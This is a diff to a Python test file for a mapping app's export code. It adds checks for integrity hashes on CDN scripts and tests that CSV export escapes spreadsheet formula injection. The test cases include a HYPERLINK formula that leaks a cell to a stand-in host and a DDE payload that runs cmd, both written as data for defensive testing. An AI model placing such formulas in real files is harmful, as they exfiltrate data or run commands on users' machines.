@@ -4,9 +4,13 @@ import csv
 import io
 import json
 
+import pandas as pd
+import pytest
+
 from atlas import export
 from atlas.data import load_catalog
 from atlas.filters import Selection, apply
+from tests.conftest import feature, write_data
 
 CAT = load_catalog()
 
@@ -40,4 +44,40 @@ def test_standalone_map_needs_no_server():
     for fid in ("ecrl", "mckip", "kuantan_port"):
         assert f'"{fid}"' in html
     linked = export.standalone_html(CAT, inline=False).decode()
-    assert '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js"></script>' in linked
+    # regression (issue 9): the CDN files carried no integrity attribute. The hashes are those
+    # Leaflet and jQuery publish for these releases (sha384 of the files the app serves)
+    assert (
+        '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js" '
+        'integrity="sha384-okbbMvvx/qfQkmiQKfd5VifbKZ/W8p1qIsWvE1ROPUfHWsDcC8/BnHohF7vPg2T6" crossorigin="anonymous"></script>'
+    ) in linked
+    assert (
+        'src="https://code.jquery.com/jquery-3.7.1.min.js" integrity="sha384-1H217gwSVyLSIfaLxHbE7dRb3v4mYCKbpQvzx0cegeju1MVsGrX5xXxAvs/HgeFs"'
+        in linked
+    )
+    assert linked.count('crossorigin="anonymous"') == 3  # two scripts and the stylesheet
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        # OWASP's examples: a cell that starts with = + - @ (or tab / CR) runs as a formula in a spreadsheet
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1,1)", "'@SUM(1,1)"),
+        ("\t=1", "'\t=1"),
+        # an ordinary name, and one with = inside, are left as they are
+        ("Kuantan Port", "Kuantan Port"),
+        ("A = B line", "A = B line"),
+    ],
+)
+def test_csv_cells_never_run_as_formulas(tmp_path, name, cell):
+    root = write_data(tmp_path / "data", layers={"ports": [feature("evil_port", kind="port", name=name)]})
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(load_catalog(root)).decode())))
+    assert rows[0]["name"] == cell
+    assert rows[0]["id"] == "evil_port"
+
+
+def test_csv_keeps_numbers_as_numbers():
+    table = pd.DataFrame({"metric": ["=1+1"], "value": [-3.5]})
+    assert export.csv_bytes(table).decode().splitlines() == ["metric,value", "'=1+1,-3.5"]
